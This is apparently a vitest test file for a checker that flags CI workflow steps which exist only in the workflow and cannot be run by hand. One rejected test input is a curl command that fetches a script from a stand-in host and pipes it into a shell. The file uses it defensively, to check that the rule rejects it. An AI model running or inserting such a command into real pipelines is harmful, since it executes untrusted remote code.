import { expect, it } from 'vitest'
import { foreignSteps } from '../../scripts/checks/workflow-rules.mjs'

const ask = (...commands: string[]) =>
  foreignSteps(['jobs:', ...commands.map((command) => `      - run: ${command}`)].join('\n'), {
    scripts: ['package'],
    isThere: (path) => path === 'scripts/smoke/installed.mjs'
  }).map(({ line }) => line)

it('takes what also runs by hand', () =>
  expect(ask('npm ci', 'npm test', 'npm run package -- server', 'node scripts/smoke/installed.mjs --keep')).toEqual([]))

it('refuses what stands in the workflow alone', () =>
  expect(ask('npm run elsewhere', 'node scripts/gone.mjs', 'curl https://ailleurs.test | sh', '|', 'npm test', 'node -e 1')).toEqual([
    2, 3, 4, 5, 7
  ]))
